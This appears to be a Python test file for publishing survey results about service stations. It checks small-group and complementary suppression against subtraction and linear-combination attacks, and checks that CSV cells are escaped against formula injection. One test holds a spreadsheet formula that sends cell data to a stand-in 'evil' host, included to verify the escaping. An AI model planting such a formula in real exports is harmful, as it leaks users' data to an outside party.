"""Results without a way back to a resident: the attacks a planner could try on published groups, and
CSV cells a spreadsheet would run. Plain functions over tallies, no gateway."""

from __future__ import annotations

import csv
import io
import random
from datetime import UTC, datetime, timedelta
from fractions import Fraction

from domain.questionnaires import Question, QuestionKind, Questionnaire
from domain.records import StationRecord
from resolvers.disclosure import MIN_GROUP, Suppression, protect
from resolvers.questionnaire_results import Dimension, Group, Results, cell, results, to_csv
from store.questionnaire_book import RatingTally, ServiceTally, StationCount, Tallies

NOW = datetime(2026, 12, 6, tzinfo=UTC)
QUESTIONNAIRE = Questionnaire(
    "q1",
    "标题",
    "Title",
    (
        Question(QuestionKind.RANK_SERVICES, "排序", "Rank", ("A", "B", "C"), 2),
        Question(QuestionKind.RATE_STATION, "评价", "Rate"),
    ),
    ("T1", "T2", "T3"),
    (),
    NOW - timedelta(days=7),
    NOW,
    NOW - timedelta(days=7),
)


def station(id: str, town: str, services: tuple[str, ...] = ()) -> StationRecord:
    return StationRecord(id, "stations", id, town, "", 31.0, 121.0, "", (), services)


def tallies(counts: dict[str, tuple[str, str, int]]) -> Tallies:
    """Per station: (town, area, answers); each answer ranks A then B, and rates 4."""
    return Tallies(
        [StationCount(s, town, area, n) for s, (town, area, n) in counts.items()],
        [ServiceTally(s, 0, "A", n, n) for s, (_, _, n) in counts.items()]
        + [ServiceTally(s, 0, "B", n, 2 * n) for s, (_, _, n) in counts.items()],
        [RatingTally(s, 1, n, 4 * n) for s, (_, _, n) in counts.items()],
        {},
    )


def shown(found: Results, dimension: Dimension) -> dict[str, int]:
    return {g.key: g.answers for g in found.groups if g.dimension is dimension and g.answers is not None}


def hidden(found: Results, dimension: Dimension) -> dict[str, Suppression]:
    return {g.key: g.suppressed for g in found.groups if g.dimension is dimension and g.suppressed}


def test_a_small_station_cannot_be_had_by_subtracting_its_sibling_from_its_town() -> None:
    found = results(
        QUESTIONNAIRE,
        tallies({"S1": ("T1", "URBAN", 9), "S2": ("T1", "URBAN", 3), "S3": ("T2", "URBAN", 20)}),
        [station("S1", "T1"), station("S2", "T1"), station("S3", "T2")],
    )
    assert shown(found, Dimension.TOWN) == {"T1": 12, "T2": 20}
    assert hidden(found, Dimension.STATION) == {
        "S1": Suppression.COMPLEMENTARY,
        "S2": Suppression.SMALL_GROUP,
    }
    assert shown(found, Dimension.STATION) == {"S3": 20}


def test_a_small_town_cannot_be_had_by_subtracting_the_others_from_the_district() -> None:
    found = results(
        QUESTIONNAIRE,
        tallies({"S1": ("T1", "URBAN", 30), "S2": ("T2", "URBAN", 2), "S3": ("T3", "URBAN", 8)}),
        [station("S1", "T1"), station("S2", "T2"), station("S3", "T3")],
    )
    assert shown(found, Dimension.DISTRICT) == {"all": 40}
    assert hidden(found, Dimension.TOWN) == {"T2": Suppression.SMALL_GROUP, "T3": Suppression.COMPLEMENTARY}
    # the stations of a hidden town are hidden too: S3 alone would be T3
    assert hidden(found, Dimension.STATION) == {
        "S2": Suppression.COMPLEMENTARY,
        "S3": Suppression.COMPLEMENTARY,
    }
    district, towns = shown(found, Dimension.DISTRICT)["all"], shown(found, Dimension.TOWN)
    assert district - sum(towns.values()) == 10  # T2 + T3 together: neither of them


def test_a_small_rural_group_hides_the_urban_one_too() -> None:
    found = results(
        QUESTIONNAIRE,
        tallies({"S1": ("T1", "URBAN", 30), "S2": ("T2", "RURAL", 3), "S3": ("T2", "URBAN", 7)}),
        [station("S1", "T1"), station("S2", "T2"), station("S3", "T2")],
    )
    assert hidden(found, Dimension.AREA) == {
        "RURAL": Suppression.SMALL_GROUP,
        "URBAN": Suppression.COMPLEMENTARY,
    }
    assert hidden(found, Dimension.STATION) == {
        "S2": Suppression.SMALL_GROUP,
        "S3": Suppression.COMPLEMENTARY,
    }


def test_several_small_groups_that_together_are_large_enough_need_no_more_hiding() -> None:
    assert protect({"a": 3, "b": 4, "c": 50}) == {"a": Suppression.SMALL_GROUP, "b": Suppression.SMALL_GROUP}
    assert protect({"a": 1, "b": 1, "c": 50, "d": 6}) == {
        "a": Suppression.SMALL_GROUP,
        "b": Suppression.SMALL_GROUP,
        "d": Suppression.COMPLEMENTARY,
    }
    assert protect({"a": 5, "b": 6}) == {}


def test_every_published_grouping_satisfies_the_rule_over_many_shapes() -> None:
    """Over many random districts: no shown group under MIN_GROUP, and within every parent the hidden
    children are none or hold at least MIN_GROUP answers together (so no subtraction isolates one)."""
    rng = random.Random(16)
    for _ in range(300):
        counts = {}
        for n in range(rng.randint(1, 12)):
            counts[f"S{n}"] = (f"T{rng.randint(1, 4)}", rng.choice(["URBAN", "RURAL"]), rng.randint(1, 12))
        found = results(QUESTIONNAIRE, tallies(counts), [station(s, t) for s, (t, _, _) in counts.items()])
        for group in found.groups:
            assert group.suppressed is not None or (group.answers or 0) >= MIN_GROUP
        town_hidden = hidden(found, Dimension.TOWN)
        if found.answers is not None and town_hidden:
            assert (
                sum(sum(n for t, _, n in counts.values() if t == town) for town in town_hidden) >= MIN_GROUP
            )
        station_hidden = hidden(found, Dimension.STATION)
        for town in shown(found, Dimension.TOWN):
            inside = [s for s in station_hidden if counts[s][0] == town]
            assert not inside or sum(counts[s][2] for s in inside) >= MIN_GROUP


def test_fewer_than_five_answers_in_all_show_nothing() -> None:
    found = results(QUESTIONNAIRE, tallies({"S1": ("T1", "URBAN", 4)}), [station("S1", "T1")])
    assert found.answers is None
    assert found.groups == (Group(Dimension.DISTRICT, "all", Suppression.SMALL_GROUP),)


def test_borda_points_mean_rank_ratings_and_the_gap() -> None:
    found = results(
        QUESTIONNAIRE,
        tallies({"S1": ("T1", "URBAN", 6)}),
        [station("S1", "T1", ("A",)), station("S9", "T1", ("C",))],
    )
    station_group = next(g for g in found.groups if g.dimension is Dimension.STATION)
    a, b = station_group.demand
    assert (a.service_id, a.points, a.mean_rank, a.position) == ("A", 12, 1.0, 1)  # 6 x (2 - 1 + 1)
    assert (b.service_id, b.points, b.mean_rank, b.position) == ("B", 6, 2.0, 2)
    assert [(r.count, r.mean) for r in station_group.ratings] == [(6, 4.0)]
    assert [m.service_id for m in station_group.missing] == ["B"]
    town = next(g for g in found.groups if g.dimension is Dimension.TOWN)
    assert [m.service_id for m in town.missing] == ["B"]  # no station of T1 offers B (S9 offers C)


def test_csv_cells_that_look_like_formulas_are_escaped() -> None:
    assert [cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=x", "plain", 3, None)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\t=x",
        "plain",
        "3",
        "",
    ]
    evil = '=HYPERLINK("http://evil/"&A1)'
    found = results(QUESTIONNAIRE, tallies({"S1": (evil, "URBAN", 6)}), [station("S1", evil)])
    rows = list(csv.reader(io.StringIO(to_csv(found))))
    assert rows[0][:4] == ["dimension", "group", "suppressed", "answers"]
    towns = [r for r in rows[1:] if r[0] == "TOWN"]
    assert towns and all(r[1] == "'" + evil for r in towns)
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@")]


def test_a_small_rural_station_cannot_be_had_from_the_rural_total_minus_the_other_rural_stations() -> None:
    """T1: village R1 (3), U1 (3) and U2 (20); T2: village R2 (10) and U3 (10). Hiding R1 and U1 inside
    T1 is not enough: RURAL (13) minus R2 (10) would be R1."""
    counts = {
        "R1": ("T1", "RURAL", 3),
        "U1": ("T1", "URBAN", 3),
        "U2": ("T1", "URBAN", 20),
        "R2": ("T2", "RURAL", 10),
        "U3": ("T2", "URBAN", 10),
    }
    found = results(QUESTIONNAIRE, tallies(counts), [station(s, t) for s, (t, _, _) in counts.items()])
    stations, areas = shown(found, Dimension.STATION), shown(found, Dimension.AREA)
    rural_shown = sum(n for s, n in stations.items() if counts[s][1] == "RURAL")
    assert "RURAL" not in areas or "R2" not in stations, (areas, stations)
    assert not ("RURAL" in areas and areas["RURAL"] - rural_shown == 3)


def _rank(rows: list[list[Fraction]]) -> int:
    """Gaussian elimination over the rationals, column by column (the test's own, not the audit's)."""
    matrix = [list(r) for r in rows]
    rank = 0
    width = len(matrix[0]) if matrix else 0
    for column in range(width):
        pivot = next((i for i in range(rank, len(matrix)) if matrix[i][column] != 0), None)
        if pivot is None:
            continue
        matrix[rank], matrix[pivot] = matrix[pivot], matrix[rank]
        for i in range(len(matrix)):
            if i != rank and matrix[i][column] != 0:
                factor = matrix[i][column] / matrix[rank][column]
                matrix[i] = [a - factor * b for a, b in zip(matrix[i], matrix[rank], strict=True)]
        rank += 1
    return rank


def test_no_hidden_group_is_a_combination_of_published_totals_over_many_shapes() -> None:
    """Random districts: every total published (district, shown towns, shown areas, shown stations) is
    an equation over the stations' counts; no hidden station, town or area may follow from them."""
    rng = random.Random(1616)
    for _ in range(300):
        counts = {
            f"S{n}": (
                f"T{rng.randint(1, 4)}",
                rng.choice(["URBAN", "RURAL"]),
                rng.choice([1, 2, 3, 4, 6, 9, 20]),
            )
            for n in range(rng.randint(2, 12))
        }
        found = results(QUESTIONNAIRE, tallies(counts), [station(s, t) for s, (t, _, _) in counts.items()])
        if found.answers is None:
            continue
        published = [_row(counts, g) for g in found.groups if g.suppressed is None]
        base = _rank(published)
        for group in found.groups:
            if group.suppressed is not None:
                extended = _rank([*published, _row(counts, group)])
                assert extended > base, f"{group.dimension} {group.key} follows from {counts}"


def _row(counts: dict[str, tuple[str, str, int]], group: Group) -> list[Fraction]:
    """The group's total as an equation over the stations' counts: 1 for each station inside it."""
    inside = {
        Dimension.DISTRICT: lambda s: True,
        Dimension.TOWN: lambda s: counts[s][0] == group.key,
        Dimension.AREA: lambda s: counts[s][1] == group.key,
        Dimension.STATION: lambda s: s == group.key,
    }[group.dimension]
    return [Fraction(1 if inside(s) else 0) for s in sorted(counts)]
